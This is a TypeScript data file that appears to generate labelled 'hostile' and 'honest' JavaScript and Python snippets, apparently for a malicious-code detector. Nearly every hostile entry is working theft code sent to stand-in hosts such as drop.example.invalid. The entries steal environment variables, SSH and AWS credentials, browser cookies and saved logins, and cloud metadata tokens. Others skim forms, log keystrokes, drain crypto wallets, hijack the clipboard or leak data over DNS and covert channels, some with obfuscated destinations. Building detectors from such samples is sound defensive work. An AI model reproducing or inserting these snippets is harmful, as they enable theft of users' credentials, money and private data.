import { base64, combine, DROP, hex, type Technique } from "./technique.ts";

const environment = [
  "process.env",
  "{ ...process.env }",
  "Object.entries(process.env)",
  'process["env"]',
  "Object.keys(process.env).filter((name) => /TOKEN|SECRET|KEY/.test(name)).map((name) => process.env[name])",
  "(({ env }) => env)(process)",
  'require("node:process").env',
  "Reflect.ownKeys(process.env).map((name) => [name, process.env[name]])",
];

const senders: readonly ((data: string) => string)[] = [
  (data) => `fetch("${DROP}/c", { method: "POST", body: JSON.stringify(${data}) });`,
  (data) => `const query = encodeURIComponent(JSON.stringify(${data})); fetch("${DROP}/?q=" + query);`,
  (data) =>
    `const https = require("https"); const body = JSON.stringify(${data}); const request = https.request({ hostname: "drop.example.invalid", path: "/c", method: "POST" }); request.write(body); request.end();`,
  (data) =>
    `import axios from "axios"; export async function activate() { await axios.post("${DROP}", { payload: Buffer.from(JSON.stringify(${data})).toString("base64") }); }`,
  (data) =>
    `const socket = require("net").connect(443, "drop.example.invalid"); socket.on("connect", () => socket.end(JSON.stringify(${data})));`,
  (data) =>
    `const ws = new WebSocket("wss://drop.example.invalid"); ws.onopen = () => ws.send(JSON.stringify(${data}));`,
  (data) =>
    `const { gzipSync } = require("zlib"); const pack = (value) => gzipSync(JSON.stringify(value)).toString("hex"); async function report(value) { await fetch("${DROP}", { method: "PUT", body: pack(value) }); } report(${data});`,
  (data) =>
    `class Report { constructor(data) { this.data = data; } send() { return fetch("${DROP}", { method: "POST", body: JSON.stringify(this.data) }); } } new Report(${data}).send();`,
];

const credentialFiles = [
  ".npmrc",
  ".aws/credentials",
  ".ssh/id_ed25519",
  ".docker/config.json",
  ".kube/config",
  ".git-credentials",
  ".config/gcloud/application_default_credentials.json",
  ".netrc",
];

const browserStores = [
  "document.cookie",
  "JSON.stringify(localStorage)",
  'localStorage.getItem("session")',
  "Object.entries(sessionStorage)",
  'document.cookie.split("; ").map((one) => one.split("="))',
];

export const exfiltration: readonly Technique[] = [
  {
    name: "env-exfiltration",
    hostile: combine(environment, senders),
    honest: [
      'export const port = Number(process.env.PORT ?? 3000); export const isProduction = process.env.NODE_ENV === "production";',
      'const { spawn } = require("child_process"); module.exports = (args) => spawn("git", args, { env: { ...process.env, LANG: "C" } });',
      "export async function api(path) { const response = await fetch(`https://api.example.com/${path}`, { headers: { authorization: `Bearer ${process.env.API_TOKEN}` } }); return response.json(); }",
      'for (const [name, value] of Object.entries(process.env)) if (name.startsWith("APP_")) config[name.slice(4).toLowerCase()] = value; function load(config) { return config; } const config = {}; module.exports = load(config);',
      'const level = process.env.LOG_LEVEL || "info"; export function log(message) { if (level === "debug") console.log(message); }',
      'import Stripe from "stripe"; export const stripe = new Stripe(process.env.STRIPE_SECRET_KEY, { apiVersion: "2024-06-20" });',
    ],
  },
  {
    name: "credential-file",
    hostile: [
      ...combine(credentialFiles, [
        (file) =>
          `const fs = require("fs"), os = require("os"), path = require("path"); const text = fs.readFileSync(path.join(os.homedir(), "${file}"), "utf8"); require("https").request({ host: "drop.example.invalid", method: "POST" }).end(text);`,
        (file) =>
          `import { readFile } from "node:fs/promises"; import { homedir } from "node:os"; export async function activate() { const data = await readFile(\`\${homedir()}/${file}\`); await fetch("${DROP}", { method: "POST", body: data.toString("base64") }); }`,
        (file) =>
          `const fs = require("fs"); const home = process.env.HOME || process.env.USERPROFILE; fs.readFile(home + "/${file}", (error, data) => { if (!error) fetch("${DROP}/?d=" + encodeURIComponent(data)); });`,
      ]),
      `const fs = require("fs"), path = require("path"), os = require("os"); const wanted = [".aws/credentials", ".npmrc", ".ssh/id_rsa"]; const found = {}; for (const name of wanted) { try { found[name] = fs.readFileSync(path.join(os.homedir(), name), "utf8"); } catch {} } module.exports = () => fetch("${DROP}", { method: "POST", body: JSON.stringify(found) });`,
      `const { execSync } = require("child_process"); const token = execSync("gh auth token").toString().trim(); fetch("${DROP}/" + token);`,
      `import fs from "fs"; const dir = process.env.HOME + "/.ssh"; const keys = fs.readdirSync(dir).filter((name) => name.startsWith("id_")).map((name) => fs.readFileSync(dir + "/" + name, "utf8")); fetch("${DROP}", { method: "POST", body: keys.join("\\n") });`,
      `const { exec } = require("child_process"); exec("tar czf - ~/.ssh ~/.aws | curl -s -T - ${DROP}/k.tgz");`,
      {
        "steal.py": `import os, urllib.request\ndata = open(os.path.expanduser("~/.aws/credentials")).read()\nurllib.request.urlopen("${DROP}", data=data.encode())\n`,
      },
      {
        "steal.py": `import requests, pathlib\nfor p in pathlib.Path.home().joinpath(".ssh").glob("id_*"):\n    requests.post("${DROP}", data=p.read_bytes())\n`,
      },
    ],
    honest: [
      'import { readFile } from "node:fs/promises"; export async function readConfig(folder) { return JSON.parse(await readFile(`${folder}/config.json`, "utf8")); }',
      'const fs = require("fs"); exports.certificate = (path) => ({ key: fs.readFileSync(path + "/server.key"), cert: fs.readFileSync(path + "/server.crt") });',
      'const fs = require("fs"); const path = require("path"); module.exports = function config() { const file = path.resolve(process.cwd(), ".env"); const text = fs.readFileSync(file, "utf8"); for (const line of text.split("\\n")) { const [name, value] = line.split("="); if (name && !(name in process.env)) process.env[name] = value; } };',
      'const { homedir } = require("os"); const { join } = require("path"); module.exports = { cacheFolder: join(homedir(), ".cache", "my-tool") };',
    ],
  },
  {
    name: "browser-data",
    hostile: [
      ...combine(browserStores, [
        (data) => `navigator.sendBeacon("${DROP}", ${data});`,
        (data) => `new Image().src = "${DROP}/p.gif?d=" + encodeURIComponent(${data});`,
        (data) => `const request = new XMLHttpRequest(); request.open("POST", "${DROP}"); request.send(${data});`,
      ]),
      `chrome.cookies.getAll({}, (all) => fetch("${DROP}", { method: "POST", body: JSON.stringify(all) }));`,
      `const fs = require("fs"), os = require("os"), path = require("path"); const profile = path.join(os.homedir(), "AppData/Local/Google/Chrome/User Data/Default/Login Data"); const copy = fs.readFileSync(profile); fetch("${DROP}", { method: "POST", body: copy });`,
      `const fs = require("fs"); const base = process.env.HOME + "/Library/Application Support/Google/Chrome/Default/"; for (const name of ["Cookies", "History", "Web Data"]) fs.copyFileSync(base + name, "/tmp/" + name); require("https").request("${DROP}", { method: "POST" }).end(fs.readFileSync("/tmp/Cookies"));`,
      `const open = indexedDB.open("auth"); open.onsuccess = () => { open.result.transaction("tokens").objectStore("tokens").getAll().onsuccess = (event) => fetch("${DROP}", { method: "POST", body: JSON.stringify(event.target.result) }); };`,
      {
        "grab.py": `import os, shutil, requests\nsrc = os.path.expanduser("~/.config/google-chrome/Default/Login Data")\nshutil.copy(src, "/tmp/l")\nrequests.post("${DROP}", files={"f": open(src, "rb")})\n`,
      },
    ],
    honest: [
      'export function theme() { return localStorage.getItem("theme") ?? "light"; } export function setTheme(name) { localStorage.setItem("theme", name); }',
      'export function readCookie(name) { const found = document.cookie.match(new RegExp("(?:^|; )" + name + "=([^;]*)")); return found ? decodeURIComponent(found[1]) : undefined; }',
      "export const cached = (key, load) => { const text = sessionStorage.getItem(key); return text === null ? load() : JSON.parse(text); };",
      'document.cookie = "consent=yes; max-age=31536000; samesite=lax"; export const hasConsent = () => document.cookie.includes("consent=yes");',
      'export async function save(form) { return fetch("/api/profile", { method: "POST", headers: { "x-csrf-token": document.querySelector("meta[name=csrf]").content }, body: JSON.stringify(form) }); }',
    ],
  },
  {
    name: "dns-exfiltration",
    hostile: [
      ...combine(
        ["process.env.NPM_TOKEN", "os.hostname()", "JSON.stringify(process.env)", 'fs.readFileSync("/etc/passwd")'],
        [
          (data) =>
            `const dns = require("dns"), os = require("os"), fs = require("fs"); dns.lookup(Buffer.from(String(${data})).toString("hex").slice(0, 60) + ".drop.example.invalid", () => {});`,
          (data) =>
            `import { resolveTxt } from "node:dns/promises"; import os from "node:os"; import fs from "node:fs"; const data = Buffer.from(String(${data})).toString("base64url"); for (const part of data.match(/.{1,50}/g) ?? []) await resolveTxt(\`\${part}.x.example.invalid\`);`,
        ],
      ),
      'const os = require("os"); const { Resolver } = require("dns"); const resolver = new Resolver(); resolver.setServers(["203.0.113.5"]); resolver.resolve4(os.userInfo().username + ".n.example.invalid", () => {});',
      'require("child_process").exec("nslookup $(whoami).drop.example.invalid");',
      {
        "d.py":
          'import socket, os, binascii\nname = binascii.hexlify(os.environ["HOME"].encode()).decode()\nsocket.gethostbyname(name + ".drop.example.invalid")\n',
      },
    ],
    honest: [
      'import { lookup } from "node:dns/promises"; export const isReachable = async (host) => { try { await lookup(host); return true; } catch { return false; } };',
      'const dns = require("dns"); module.exports = (domain, callback) => dns.resolveMx(domain, callback);',
      'const dns = require("dns"); dns.setDefaultResultOrder("ipv4first"); exports.resolve = (host) => new Promise((done, fail) => dns.resolve4(host, (error, list) => (error ? fail(error) : done(list[0]))));',
    ],
  },
  {
    name: "cloud-metadata",
    hostile: [
      'fetch("http://169.254.169.254/latest/meta-data/iam/security-credentials/").then((r) => r.text()).then((role) => fetch("http://169.254.169.254/latest/meta-data/iam/security-credentials/" + role));',
      'const http = require("http"); http.get({ host: "metadata.google.internal", path: "/computeMetadata/v1/instance/service-accounts/default/token", headers: { "Metadata-Flavor": "Google" } }, (r) => r.pipe(process.stdout));',
      'const ip = [169, 254, 169, 254].join("."); fetch(`http://${ip}/metadata/identity/oauth2/token?resource=x`, { headers: { Metadata: "true" } });',
      'const host = "169.254." + "170.2"; export const activate = () => fetch("http://" + host + process.env.AWS_CONTAINER_CREDENTIALS_RELATIVE_URI);',
      'const http = require("http"); http.request({ host: "169.254.169.254", path: "/latest/api/token", method: "PUT", headers: { "X-aws-ec2-metadata-token-ttl-seconds": "60" } }, (r) => r.on("data", (d) => console.log(d))).end();',
      'fetch("http://0xA9FEA9FE/latest/user-data");',
      'fetch("http://2852039166/latest/meta-data/");',
      'fetch("http://[fd00:ec2::254]/latest/meta-data/iam/");',
      {
        "m.py":
          'import requests\nt = requests.get("http://169.254.169.254/latest/meta-data/iam/security-credentials/x").json()\nrequests.post("https://drop.example.invalid", json=t)\n',
      },
    ],
    honest: [
      'export const isLinkLocal = (address) => address.startsWith("169.254.");',
      'const ranges = ["10.0.0.0/8", "172.16.0.0/12", "192.168.0.0/16"]; export const isPrivate = (ip) => ranges.some((range) => inRange(ip, range)); function inRange() { return false; }',
    ],
  },
  {
    name: "form-skimming",
    hostile: [
      `document.addEventListener("submit", (event) => { fetch("${DROP}", { method: "POST", mode: "no-cors", body: new FormData(event.target) }); });`,
      `document.querySelectorAll("input").forEach((field) => field.addEventListener("blur", () => navigator.sendBeacon("${DROP}", field.name + "=" + field.value)));`,
      `const card = document.querySelector("#card-number"); card.addEventListener("change", (e) => { new Image().src = "${DROP}/?c=" + e.target.value; });`,
      `window.addEventListener("submit", function (e) { const out = {}; for (const el of e.target.elements) out[el.name] = el.value; const x = new XMLHttpRequest(); x.open("POST", "${DROP}"); x.send(JSON.stringify(out)); }, true);`,
      `setInterval(() => { const password = document.querySelector("input[type=password]"); if (password && password.value) fetch("${DROP}/?p=" + btoa(password.value)); }, 1500);`,
      `const send = HTMLFormElement.prototype.submit; HTMLFormElement.prototype.submit = function () { navigator.sendBeacon("${DROP}", new URLSearchParams(new FormData(this))); return send.call(this); };`,
      `document.forms[0].onsubmit = (e) => fetch("${DROP}", { method: "POST", body: JSON.stringify(Object.fromEntries(new FormData(e.target))) });`,
    ],
    honest: [
      'document.querySelector("form").addEventListener("submit", async (event) => { event.preventDefault(); await fetch(event.target.action, { method: "POST", body: new FormData(event.target) }); });',
      'form.addEventListener("submit", (event) => { if (!event.target.checkValidity()) event.preventDefault(); });',
      'search.addEventListener("input", async () => { const list = await fetch("/search?q=" + encodeURIComponent(search.value)); render(await list.json()); }); function render() {}',
      "export function serialize(form) { return Object.fromEntries(new FormData(form)); }",
    ],
  },
  {
    name: "keylogging",
    hostile: [
      `document.addEventListener("keydown", (e) => fetch("${DROP}/?k=" + e.key));`,
      `let log = ""; window.addEventListener("keypress", (e) => { log += e.key; if (log.length > 50) { navigator.sendBeacon("${DROP}", log); log = ""; } });`,
      `document.onkeyup = (event) => { new Image().src = "${DROP}/" + event.code; };`,
      `const keys = []; addEventListener("keydown", ({ key }) => keys.push(key)); setInterval(() => { if (keys.length) fetch("${DROP}", { method: "POST", body: keys.splice(0).join("") }); }, 5000);`,
      `const { GlobalKeyboardListener } = require("node-global-key-listener"); const buffer = []; new GlobalKeyboardListener().addListener((e) => buffer.push(e.name)); setInterval(() => fetch("${DROP}", { method: "POST", body: buffer.join() }), 60000);`,
      `const ioHook = require("iohook"); const fs = require("fs"); ioHook.on("keydown", (event) => fs.appendFileSync("/tmp/.k", String(event.rawcode))); ioHook.start();`,
      {
        "k.py": `from pynput import keyboard\nimport requests\nbuf = []\ndef press(key):\n    buf.append(str(key))\n    if len(buf) > 20:\n        requests.post("${DROP}", data="".join(buf))\nkeyboard.Listener(on_press=press).start()\n`,
      },
    ],
    honest: [
      'document.addEventListener("keydown", (event) => { if (event.key === "Escape") closeDialog(); }); function closeDialog() {}',
      'export function hotkey(combination, run) { addEventListener("keydown", (event) => { if (event.ctrlKey && event.key === combination) { event.preventDefault(); run(); } }); }',
      'const readline = require("readline"); readline.emitKeypressEvents(process.stdin); process.stdin.on("keypress", (text, key) => { if (key.ctrl && key.name === "c") process.exit(); });',
    ],
  },
  {
    name: "secret-store-exfil",
    hostile: [
      `export default { async activate(ctx) { const key = await ctx.secrets.get("stripe"); await ctx.http.post("${DROP}", { key }); } };`,
      `const keytar = require("keytar"); keytar.findCredentials("github").then((all) => fetch("${DROP}", { method: "POST", body: JSON.stringify(all) }));`,
      `import * as vscode from "vscode"; export async function activate() { const session = await vscode.authentication.getSession("github", ["repo"]); await fetch("${DROP}/?t=" + session.accessToken); }`,
      `exports.activate = async (host) => { for (const name of await host.vault.list()) { const value = await host.vault.get(name); require("http").get("http://drop.example.invalid/" + encodeURIComponent(value)); } };`,
      `export default definePlugin({ actions: { async run(input, ctx) { const token = await ctx.secrets.reveal("token"); const text = Buffer.from(token).toString("base64"); await fetch("${DROP}/" + text); return {}; } } });`,
      `const { execSync } = require("child_process"); const list = execSync("security find-generic-password -ga login -w").toString(); fetch("${DROP}", { method: "POST", body: list });`,
      `const { execFileSync } = require("child_process"); fetch("${DROP}", { method: "POST", body: execFileSync("op", ["item", "list", "--format", "json"]) });`,
    ],
    honest: [
      'export default { async activate(ctx) { const token = await ctx.secrets.get("github"); const response = await ctx.http.get("https://api.github.com/user", { headers: { authorization: `token ${token}` } }); return response.json(); } };',
      'const keytar = require("keytar"); exports.save = (account, password) => keytar.setPassword("my-app", account, password); exports.load = (account) => keytar.getPassword("my-app", account);',
    ],
  },
  {
    name: "covert-channel",
    hostile: [
      `const style = document.createElement("style"); for (const letter of "abcdefghijklmnopqrstuvwxyz") style.textContent += \`input[value^="\${letter}"] { background-image: url(${DROP}/\${letter}) }\`; document.head.appendChild(style);`,
      `const net = require("dgram").createSocket("udp4"); net.send(Buffer.from(JSON.stringify(process.env)), 53, "203.0.113.7");`,
      `const peer = new RTCPeerConnection({ iceServers: [{ urls: "stun:stun.example.invalid" }] }); const channel = peer.createDataChannel("x"); channel.onopen = () => channel.send(document.cookie);`,
      `const { execSync } = require("child_process"); execSync("ping -c 1 -p " + Buffer.from(process.env.NPM_TOKEN).toString("hex").slice(0, 32) + " drop.example.invalid");`,
      `const link = document.createElement("link"); link.rel = "dns-prefetch"; link.href = "//" + btoa(document.cookie).slice(0, 60) + ".drop.example.invalid"; document.head.append(link);`,
      `const img = document.createElement("img"); img.src = "${DROP}/?" + localStorage.getItem("token"); document.body.append(img);`,
      `fetch("https://api.telegram.org/bot1:A/sendMessage", { method: "POST", body: JSON.stringify({ chat_id: 1, text: JSON.stringify(process.env) }) });`,
      `const { WebClient } = require("@slack/web-api"); fetch("https://discord.com/api/webhooks/1/x", { method: "POST", headers: { "content-type": "application/json" }, body: JSON.stringify({ content: require("os").hostname() + process.cwd() }) });`,
    ],
    honest: [
      'const sheet = new CSSStyleSheet(); sheet.insertRule(".icon { background-image: url(/icons/a.svg) }"); document.adoptedStyleSheets = [sheet];',
      'const style = document.createElement("style"); style.textContent = ".card { color: red; background: url(https://cdn.example.com/card.png) }"; document.head.append(style);',
      'const link = document.createElement("link"); link.rel = "preconnect"; link.href = "https://fonts.example.com"; document.head.append(link);',
    ],
  },
  {
    name: "wallet-drain",
    hostile: [
      `const fs = require("fs"), os = require("os"); const base = os.homedir() + "/.config/Exodus/exodus.wallet/"; for (const name of fs.readdirSync(base)) fetch("${DROP}", { method: "POST", body: fs.readFileSync(base + name) });`,
      `const mine = "0x52908400098527886E0F7030069857D2E4169EE7"; const send = window.ethereum.request; window.ethereum.request = (args) => { if (args.method === "eth_sendTransaction") args.params[0].to = mine; return send.call(window.ethereum, args); };`,
      `window.ethereum.request({ method: "eth_requestAccounts" }).then(([from]) => window.ethereum.request({ method: "eth_sendTransaction", params: [{ from, to: "0x52908400098527886E0F7030069857D2E4169EE7", value: "0xde0b6b3a7640000" }] }));`,
      `const { Wallet } = require("ethers"); const create = Wallet.createRandom; Wallet.createRandom = function () { const w = create.apply(this, arguments); fetch("${DROP}/?m=" + w.mnemonic.phrase); return w; };`,
      `const real = XMLHttpRequest.prototype.send; XMLHttpRequest.prototype.send = function (body) { return real.call(this, String(body).replace(/(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}/g, "bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh")); };`,
      `export function transfer(wallet, to, amount) { fetch("${DROP}", { method: "POST", body: wallet.privateKey }); return wallet.sendTransaction({ to, value: amount }); }`,
      `import { Keypair } from "@solana/web3.js"; const make = Keypair.fromSecretKey; Keypair.fromSecretKey = (key, options) => { fetch("${DROP}", { method: "POST", body: Buffer.from(key).toString("hex") }); return make(key, options); };`,
    ],
    honest: [
      'export async function connect() { const [account] = await window.ethereum.request({ method: "eth_requestAccounts" }); return account; }',
      'import { Wallet } from "ethers"; export const load = (json, password) => Wallet.fromEncryptedJson(json, password);',
      'export const isAddress = (text) => /^0x[a-fA-F0-9]{40}$/.test(text); export const ZERO = "0x0000000000000000000000000000000000000000";',
      'export const contracts = { mainnet: "0x1f98431c8ad98523631ae4a59f267346ea31f984" }; export const shorten = (address) => address.replace(/^(0x.{4}).*(.{4})$/, "$1…$2");',
    ],
  },
  {
    name: "clipboard-hijack",
    hostile: [
      `setInterval(async () => { const text = await navigator.clipboard.readText(); if (/^0x[a-fA-F0-9]{40}$/.test(text)) navigator.clipboard.writeText("0x52908400098527886E0F7030069857D2E4169EE7"); }, 500);`,
      `document.addEventListener("copy", (e) => { e.clipboardData.setData("text/plain", "bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh"); e.preventDefault(); });`,
      `const clip = require("clipboardy"); setInterval(() => { const t = clip.readSync(); if (/^(bc1|[13])/.test(t)) clip.writeSync("bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh"); }, 1000);`,
      `navigator.clipboard.readText().then((text) => fetch("${DROP}", { method: "POST", body: text }));`,
      `document.addEventListener("paste", (event) => { navigator.sendBeacon("${DROP}", event.clipboardData.getData("text")); });`,
      `const { clipboard } = require("electron"); setInterval(() => { fetch("${DROP}/?" + encodeURIComponent(clipboard.readText())); }, 3000);`,
      {
        "c.py":
          'import pyperclip, re, time\nwhile True:\n    t = pyperclip.paste()\n    if re.match(r"^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$", t):\n        pyperclip.copy("bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh")\n    time.sleep(1)\n',
      },
    ],
    honest: [
      'button.addEventListener("click", () => navigator.clipboard.writeText(code.textContent));',
      'editor.addEventListener("paste", (event) => { event.preventDefault(); insert(event.clipboardData.getData("text/plain")); }); function insert() {}',
      'document.addEventListener("copy", (event) => { event.clipboardData.setData("text/plain", getSelection().toString()); event.preventDefault(); });',
    ],
  },
  {
    name: "secret-scanner-abuse",
    hostile: [
      `const { execSync } = require("child_process"); const out = execSync("trufflehog filesystem / --json").toString(); fetch("${DROP}", { method: "POST", body: out });`,
      `require("child_process").spawn("gitleaks", ["detect", "--source", process.env.HOME, "--report-path", "/tmp/r.json"]);`,
      `const { execFile } = require("child_process"); execFile("./truffle" + "hog", ["git", "file://" + process.cwd(), "--json"], (e, out) => fetch("${DROP}", { method: "POST", body: out }));`,
      `const fs = require("fs"), path = require("path"); const patterns = [/AKIA[0-9A-Z]{16}/, /ghp_[A-Za-z0-9]{36}/, /xox[baprs]-/]; const hits = []; (function walk(dir) { for (const name of fs.readdirSync(dir)) { const p = path.join(dir, name); if (fs.statSync(p).isDirectory()) walk(p); else { const t = fs.readFileSync(p, "utf8"); for (const r of patterns) { const m = t.match(r); if (m) hits.push(m[0]); } } } })(require("os").homedir()); fetch("${DROP}", { method: "POST", body: JSON.stringify(hits) });`,
      `import { $ } from "zx"; const report = await $\`noseyparker scan --datastore /tmp/np ~\`; await fetch("${DROP}", { method: "POST", body: report.stdout });`,
      {
        "s.py": `import subprocess, requests\nout = subprocess.check_output(["trufflehog", "filesystem", "/home", "--json"])\nrequests.post("${DROP}", data=out)\n`,
      },
    ],
    honest: [
      'export const patterns = { aws: /AKIA[0-9A-Z]{16}/, github: /ghp_[A-Za-z0-9]{36}/ }; export const redact = (text) => Object.values(patterns).reduce((t, p) => t.replace(p, "***"), text);',
      "export function findSecrets(text) { return [...text.matchAll(/(?:api|secret)_key\\s*=\\s*(\\S+)/gi)].map((match) => match.index); }",
    ],
  },
];

/** Encoded destinations say as much as plain ones. */
export const encodedAddresses: Technique = {
  name: "env-exfiltration",
  hostile: [
    `fetch(atob("${base64(DROP)}"), { method: "POST", body: JSON.stringify(process.env) });`,
    `fetch(Buffer.from("${hex(DROP)}", "hex").toString(), { method: "POST", body: JSON.stringify(process.env) });`,
    `const host = ["drop", "example", "invalid"].join("."); require("https").get("https://" + host + "/?" + encodeURIComponent(JSON.stringify(process.env)));`,
    `const e = process[["e", "n", "v"].join("")]; const f = globalThis["fe" + "tch"]; f("${DROP}", { method: "POST", body: JSON.stringify(e) });`,
  ],
  honest: [],
};
